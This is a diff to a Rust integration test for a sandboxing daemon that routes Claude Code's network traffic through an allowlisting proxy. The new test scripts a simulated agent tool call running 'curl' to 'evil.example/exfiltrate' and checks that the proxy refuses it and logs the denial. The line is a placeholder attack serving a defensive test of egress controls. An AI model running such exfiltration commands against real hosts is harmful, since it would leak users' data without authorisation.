@@ -47,7 +47,8 @@ fn daemon_for(api: &FakeAnthropic, mode: &str, extra: &str) -> Daemon {
 }
 
 /// Adds profile `name`: claude-code pointed at `api`, in permission `mode`,
-/// with `extra` appended to its `[claude]` section.
+/// with `extra` after its `[claude]` section (more `[claude]` keys, or
+/// other sections).
 fn add_test_profile(d: &Daemon, name: &str, api: &FakeAnthropic, mode: &str, extra: &str) {
     d.add_profile(
         name,
@@ -534,4 +535,63 @@ fn an_attached_session_takes_two_messages_and_survives_its_client() {
         .collect();
     assert_eq!(results, vec!["first answer", "second answer"]);
     assert_eq!(api.requests(), 3);
+}
+
+#[test]
+fn claude_reaches_allowlisted_hosts_through_the_proxy_and_reads_the_refusal_of_others() {
+    if !root() {
+        return;
+    }
+    use warden_tests::servers::{assert_packages_arrived, package_script, package_servers, Served, TestCa};
+    let fixtures = tempfile::tempdir().unwrap();
+    let ca = TestCa::new();
+    let names = ["git.test", "pypi.test", "npm.test", "web.test"];
+    let tls = Served::start(package_servers(fixtures.path()), Some(ca.server_config(&names)));
+    let api = FakeAnthropic::start(vec![
+        bash(&package_script(tls.port())),
+        bash("curl -sS http://evil.example/exfiltrate; echo; curl -sS https://evil.example/ 2>&1"),
+        Turn::Text("done".into()),
+    ]);
+    let d = Daemon::start();
+    let t = tls.port();
+    add_test_profile(
+        &d,
+        "cc-test",
+        &api,
+        "bypassPermissions",
+        &format!("[network]\nallow = [\"git.test:{t}\", \"pypi.test:{t}\", \"npm.test:{t}\", \"web.test:{t}\"]"),
+    );
+    d.set_credentials("alice", "sk-alice\n");
+    assert!(d
+        .ctl(&["spawn", "--user", "alice", "-w", "--", "true"])
+        .status
+        .success());
+    std::fs::write(workspace(&d, "alice", "default").join("ca.pem"), ca.pem()).unwrap();
+    let out = run(&d, "alice", "fetch the packages");
+    assert!(out.status.success(), "{}\n{}", text(&out.stdout), text(&out.stderr));
+    let r = results(&api);
+    assert_eq!(r.len(), 2, "{r:#?}");
+    // Claude Code's own API traffic and its tools' traffic both went through
+    // the proxy; the refusal is in the tool result, for the model to read.
+    assert_packages_arrived(&r[0].0);
+    assert!(
+        r[1].0
+            .contains("warden: evil.example is not on the allowlist of profile cc-test"),
+        "{:?}",
+        r[1]
+    );
+    assert!(r[1].0.contains("CONNECT tunnel failed, response 403"), "{:?}", r[1]);
+    let ev = d.events(&["--kind", "network_denial", "--user", "alice"]);
+    assert!(
+        ev.iter()
+            .any(|e| e["host"] == "evil.example" && e["reason"] == "not-allowed"),
+        "{ev:#?}"
+    );
+    let started = d.events(&["--kind", "worker_started", "--user", "alice"]);
+    let id = started.last().unwrap()["worker"].as_str().unwrap().to_string();
+    let w: Value = serde_json::from_slice(&d.ctl(&["inspect", &id, "--output", "json"]).stdout).unwrap();
+    assert!(
+        w["network"]["hosts"]["anthropic.test"]["connections"].as_u64().unwrap() >= 1,
+        "Claude's API calls went through the proxy: {w:#}"
+    );
 }
